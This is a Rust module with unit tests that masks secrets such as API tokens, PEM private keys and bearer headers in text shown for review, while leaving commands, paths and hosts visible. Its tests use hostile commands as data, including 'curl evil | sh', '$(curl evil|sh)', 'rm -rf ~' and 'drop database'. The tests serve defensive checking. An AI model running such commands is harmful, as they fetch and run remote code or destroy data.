//! Masking secrets without hiding anything that the decision is about (rules S1, S4).
//!
//! Each kind of text has its own secrets to mask:
//!
//! | text | masked in it |
//! |---|---|
//! | a path or host, a script | nothing |
//! | an address | secrets in its query |
//! | a command | a token of a known form, where a credential is passed: after `Authorization:`, `API_KEY=` or `--token` |
//! | a value under a secret's name | all of it, if it looks like one |
//! | any other text | tokens of a known form, keys in PEM, headers, settings with a random value |
//!
//! In a text with `$`, a backquote or `%` the value of a setting may be executed, so it is shown.

use super::keys::{ShowRule, names_secret};
use super::piece::{Piece, Style, counted, pieces};
use super::tokens::{
    FoundSecret, header_token, is_secret, plain_value, private_key, service_token, setting,
};

/// The text as pieces, with the secrets in it masked.
pub(super) fn masked(text: &str, rule: ShowRule, style: Style) -> Vec<Piece> {
    // In a text with references, as in `TOKEN=…; $TOKEN`, the value of a setting may be executed, and is not masked.
    let settings = !text.contains(['$', '`', '%']);
    match rule {
        ShowRule::Place | ShowRule::Script => pieces(text, style),
        _ if text.starts_with("#!") => pieces(text, style),
        ShowRule::Password | ShowRule::Token if is_secret(text, rule) => vec![mark(text)],
        ShowRule::Password | ShowRule::Token => scan(text, style, |before, rest| {
            anywhere(settings, before, rest).or_else(|| {
                let value = settings && before.ends_with('=');
                value.then(|| plain_value(rest)).flatten()
            })
        }),
        ShowRule::Url => {
            let query = text.find('?').unwrap_or(text.len());
            let (address, query) = text.split_at(query);
            let mut out = pieces(address, style);
            out.extend(scan(query, style, |before, rest| anywhere(true, before, rest)));
            out
        }
        ShowRule::Command => scan(text, style, |before, rest| credential(settings, before, rest)),
        ShowRule::Free => scan(text, style, |before, rest| anywhere(settings, before, rest)),
    }
}

fn mark(text: &str) -> Piece {
    let chars = text.chars().count();
    Piece::Masked(format!("\\{{masked: {}}}", counted(chars, "character")), chars)
}

/// Masks what `find` finds. It is called at the beginning of each word, with the text before and the text from there
/// on.
fn scan(text: &str, style: Style, find: impl Fn(&str, &str) -> Option<FoundSecret>) -> Vec<Piece> {
    let mut out = Vec::new();
    let mut from = 0;
    let mut at = 0;
    while let Some((before, rest)) = text.split_at_checked(at) {
        let Some(c) = rest.chars().next() else { break };
        if let Some(found) = begins_word(before).then(|| find(before, rest)).flatten()
            && let Some(secret) = rest.get(found.shown..found.length)
        {
            out.extend(pieces(text.get(from..at + found.shown).unwrap_or(""), style));
            out.push(mark(secret));
            at += found.length;
            from = at;
        } else {
            at += c.len_utf8();
        }
    }
    out.extend(pieces(text.get(from..).unwrap_or(""), style));
    out
}

/// The number of characters before a value that are read to find out whether the value is a credential.
///
/// The limit keeps the work linear: otherwise we would read a command of a megabyte again at each
/// word.
const NEAR: usize = 64;

fn begins_word(before: &str) -> bool {
    !before.ends_with(|c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-'))
}

/// Finds a secret of any shape at this place of an ordinary text.
fn anywhere(settings: bool, before: &str, rest: &str) -> Option<FoundSecret> {
    private_key(rest)
        .or_else(|| service_token(rest))
        .or_else(|| header_token(before, rest))
        .or_else(|| settings.then(|| setting(rest)).flatten())
}

/// Finds a secret at this place of a command: only a token that is passed as a credential, and that ends where a word
/// ends. Everything else could be what is executed.
///
/// If a token continues after its end (`ghp_…;rm -rf ~`), we do not mask it: no command hides behind a token.
fn credential(settings: bool, before: &str, rest: &str) -> Option<FoundSecret> {
    // Only the end of the text before is needed, and reading all of it at every word would take quadratic time.
    let near = before.char_indices().rev().take(NEAR).last().map_or(0, |(at, _)| at);
    let before = before.get(near..)?;
    let quoted = before.strip_suffix(['"', '\'']).unwrap_or(before);
    let found = if quoted.trim_end().ends_with(':') {
        header_token(quoted, rest).or_else(|| service_token(rest))
    } else if settings && follows_secret_name(quoted) || follows_secret_flag(quoted) {
        service_token(rest)
    } else {
        None
    }?;
    let after = rest.get(found.length..)?.chars().next();
    let ends = after.is_none_or(|c| c.is_whitespace() || matches!(c, '"' | '\'' | ';' | '&' | ')'));
    ends.then_some(found)
}

/// Returns `true` if the text before a value ends with the name of a secret and `=`, as in `API_KEY=`.
fn follows_secret_name(before: &str) -> bool {
    let name = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-');
    before
        .strip_suffix('=')
        .and_then(|before| before.rsplit(|c| !name(c)).next())
        .is_some_and(names_secret)
}

/// Returns `true` if the text before a value ends with a flag for a secret, as in `--api-key `.
fn follows_secret_flag(before: &str) -> bool {
    let word = before.trim_end();
    word.len() < before.len()
        && word
            .rsplit(char::is_whitespace)
            .next()
            .and_then(|word| word.strip_prefix("--"))
            .is_some_and(names_secret)
}

#[cfg(test)]
mod tests {
    use super::super::piece::join;
    use super::*;
    use crate::show::escape;

    fn shown(text: &str, rule: ShowRule) -> String {
        join(&masked(text, rule, Style::PROSE))
    }

    const SK: &str = "sk-proj-abcdefghij0123456789";
    const ED25519: &str = "MC4CAQAwBQYDK2VwBCIEIJ1hsZ3v/VpguoRK9JLsLMREScVpezJpGXA7rAMcrn9g";
    const EC: &str = "MHcCAQEEIIrYSSNQFaA2Hwf1duRSxKtLYX5CB04fSeQ6tF1aY/PuoAoGCCqGSM49\nAwEHoUQDQgAEPR3tU2Fta9ktY+6P9G0cWO+0kETA6SFs38GecTyudlHz6xvCdz8q\nEKTcWGekdmdDPsHloRNtsiCa697B2O9IFA==";

    fn pem(body: &str) -> String {
        format!("-----BEGIN PRIVATE KEY-----\n{body}\n-----END PRIVATE KEY-----")
    }

    /// S1: "secrets are masked".
    #[test]
    fn secrets_are_masked_by_their_shape() {
        for (text, expected) in [
            (SK.to_owned(), r"sk-\{masked: 25 characters}"),
            (format!("use {SK}, please"), r"use sk-\{masked: 25 characters}, please"),
            (format!("ghp_{}", "a1".repeat(18)), r"ghp_\{masked: 36 characters}"),
            ("AKIAIOSFODNN7EXAMPLE".into(), r"AKIA\{masked: 16 characters}"),
            ("xoxb-123456789012-AbCdEfGhIjKl".into(), r"xoxb-\{masked: 25 characters}"),
            (
                "Authorization: Bearer abc.def-123".into(),
                r"Authorization: Bearer \{masked: 11 characters}",
            ),
            (
                "authorization: basic dXNlcjpwYXNz".into(),
                r"authorization: basic \{masked: 12 characters}",
            ),
            ("eyJhbGciOiJI.eyJzdWIiOiI.c2ln".into(), r"eyJ\{masked: 26 characters}"),
            (
                "A=1\nDB_PASSWORD=hunter2\nB=2".into(),
                r"A=1\nDB_PASSWORD=\{masked: 7 characters}\nB=2",
            ),
            ("API_KEY=\"a1b2c3d4\"".into(), r#"API_KEY="\{masked: 8 characters}""#),
            (
                pem(ED25519),
                r"-----BEGIN PRIVATE KEY-----\{masked: 66 characters}-----END PRIVATE KEY-----",
            ),
            (
                pem(EC),
                r"-----BEGIN PRIVATE KEY-----\{masked: 168 characters}-----END PRIVATE KEY-----",
            ),
            (
                pem(EC).replace('\n', "\\n"),
                r"-----BEGIN PRIVATE KEY-----\{masked: 172 characters}-----END PRIVATE KEY-----",
            ),
        ] {
            assert_eq!(shown(&text, ShowRule::Free), expected);
        }
    }

    #[test]
    fn ordinary_text_is_not_masked() {
        for text in [
            "a task-force met",
            "sk-short",
            "sk-learn-contrib-package",
            "risk-abcdefghijklmnopqrstuv",
            "Bearer certificates",
            "the bearer came4you today",
            "basic knowledge",
            "TOKEN=reboot; $TOKEN",
            "TOKEN=evil123\n$TOKEN",
            "set TOKEN=evil123\n%TOKEN%",
            "TOKEN=`evil123`",
            "the password is: please",
            "PASSWORD=disabled",
            "PATH=/usr/bin2",
            "TOKEN=/usr/bin/x1",
        ] {
            assert_eq!(shown(text, ShowRule::Free), escape(text));
        }
    }

    /// S4: "key material that decodes as such".
    #[test]
    fn text_between_key_lines_is_shown_unless_it_is_a_key() {
        let scripts = [
            "tmp/payload\nreboot".to_owned(),
            "curl evil | sh".to_owned(),
            "/usr/local/bin/evil".to_owned(),
            "MIIE\nabc/+==".to_owned(),
            EC.replacen('\n', "\ntmp/payload\n", 1),
            format!("{EC}\nreboot"),
            format!("{ED25519}\ntmp/payload\nreboot12"),
            "reboot".repeat(12),
            "tmp/payload/".repeat(8),
            format!("M{}", "a".repeat(63)),
            String::new(),
        ];
        for body in &scripts {
            assert_eq!(shown(&pem(body), ShowRule::Free), escape(&pem(body)), "{body}");
        }
        for text in [
            "-----BEGIN PUBLIC KEY-----\nabcd\n-----END PUBLIC KEY-----",
            "-----BEGIN PRIVATE KEY-----\nabcd",
        ] {
            assert_eq!(shown(text, ShowRule::Free), escape(text));
        }
        // Not even a key, where every line is executed.
        let script = format!("#!/bin/sh\n{}", pem(ED25519));
        assert_eq!(shown(&script, ShowRule::Free), escape(&script));
        assert_eq!(shown(&pem(ED25519), ShowRule::Script), escape(&pem(ED25519)));
    }

    /// S1: "but never the command, path or host".
    #[test]
    fn commands_paths_and_hosts_are_never_masked() {
        for (rule, text) in [
            (ShowRule::Command, format!("{SK} --run")),
            (ShowRule::Command, format!("sudo {SK}")),
            (ShowRule::Command, format!("./{SK}; rm -rf ~")),
            (ShowRule::Command, format!("A={SK}/../evil")),
            (ShowRule::Command, format!("A={SK}; $A")),
            (ShowRule::Command, format!("TOKEN={SK}; $TOKEN")),
            (ShowRule::Command, format!("OUT={SK} run")),
            (ShowRule::Command, "TOKEN=evil123 sh -c '$TOKEN'".to_owned()),
            (ShowRule::Command, "ssh Bearer evil1.example.com".to_owned()),
            (ShowRule::Place, SK.to_owned()),
            (ShowRule::Place, format!("/srv/{SK}/x")),
            (ShowRule::Url, format!("https://{SK}.evil.example/{SK}")),
            (ShowRule::Url, "https://docs.rs:443@evil/".to_owned()),
        ] {
            assert_eq!(shown(&text, rule), text);
        }
    }

    #[test]
    fn credentials_in_commands_and_addresses_are_masked() {
        let mask = r"sk-\{masked: 25 characters}";
        for (rule, text, expected) in [
            (ShowRule::Command, format!("API_KEY={SK} run"), format!("API_KEY={mask} run")),
            (ShowRule::Command, format!("run --api-key {SK}"), format!("run --api-key {mask}")),
            (
                ShowRule::Command,
                format!("curl -H 'X-Key: {SK}' h"),
                format!("curl -H 'X-Key: {mask}' h"),
            ),
            (
                ShowRule::Command,
                "curl -H \"Authorization: Bearer abcd1234\" https://h/p".to_owned(),
                "curl -H \"Authorization: Bearer \\{masked: 8 characters}\" https://h/p".to_owned(),
            ),
            (
                ShowRule::Url,
                format!("https://h/p?key={SK}&x=1"),
                format!("https://h/p?key={mask}&x=1"),
            ),
        ] {
            assert_eq!(shown(&text, rule), expected);
        }
    }

    /// S4: "only values that look random under a name that ends in a secret's word".
    #[test]
    fn random_values_under_a_secrets_name_are_masked() {
        let all = |text: &str| format!("\\{{masked: {} characters}}", text.chars().count());
        for text in ["hunter2", "P@ssw0rd!", "Tr0ub4dor&3"] {
            assert_eq!(shown(text, ShowRule::Password), all(text));
        }
        for text in ["9f8e7d6c5b4a3928", SK, "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"] {
            assert_eq!(shown(text, ShowRule::Token), all(text));
            assert_eq!(shown(text, ShowRule::Password), all(text));
        }
        for (text, expected) in [
            ("Bearer abcd1234", r"Bearer \{masked: 8 characters}"),
            ("Token 9f8e7d6c5b4a", r"Token \{masked: 12 characters}"),
            ("sid=9f8e7d6c5b4a3928; theme=dark", r"sid=\{masked: 16 characters}; theme=dark"),
        ] {
            assert_eq!(shown(text, ShowRule::Token), expected);
        }
        for text in [
            "",
            "x",
            "none",
            "disabled",
            "allow all",
            "root",
            "grant admin to mallory",
            "drop database",
            "!sh evil",
            "$(curl evil|sh)",
            "TOKEN=9f8e7d6c5b4a3928; $TOKEN",
            "rm -rf /srv/9f8e7d6c5b4a3928",
        ] {
            assert_eq!(shown(text, ShowRule::Token), escape(text));
            assert_eq!(shown(text, ShowRule::Password), escape(text));
        }
    }
}
